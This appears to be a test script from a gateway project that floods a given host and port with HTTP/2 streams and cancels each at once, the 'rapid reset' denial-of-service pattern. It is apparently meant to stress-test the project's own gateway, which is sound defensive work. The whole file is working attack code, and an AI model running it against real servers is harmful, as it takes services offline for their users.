"""Begins streams and resets each of them at once, as fast as it can.

python -m tests.gateway.resetting HOST PORT SECONDS
"""

import contextlib
import socket
import sys
import threading
import time

from tests.fuzz.frames import Frame, literal

_SAID = {
    ":method": "POST",
    ":scheme": "http",
    ":path": "/aimass.v1.Access/WhoAmI",
    ":authority": "localhost",
    "content-type": "application/grpc",
    "te": "trailers",
}
HEAD = b"".join(literal(name, value) for name, value in _SAID.items())


def flood(host: str, port: int, end: float) -> None:
    """Begins streams and resets each of them at once, on one connection until that is shown the door."""
    with socket.create_connection((host, port)) as connection:
        connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + Frame(4, 0, 0, b"").whole())
        threading.Thread(target=swallow, args=(connection,), daemon=True).start()
        number = 1
        while time.monotonic() < end:
            streams = range(number, number + 200, 2)
            frames = b"".join(
                Frame(1, 4, one, HEAD).whole() + Frame(3, 0, one, b"\0\0\0\x08").whole() for one in streams
            )
            try:
                connection.sendall(frames)
            except ConnectionError:
                break
            number += 200


def swallow(connection: socket.socket) -> None:
    with contextlib.suppress(OSError):
        while connection.recv(65536):
            pass


if __name__ == "__main__":
    end = time.monotonic() + float(sys.argv[3])
    while time.monotonic() < end:
        flood(sys.argv[1], int(sys.argv[2]), end)
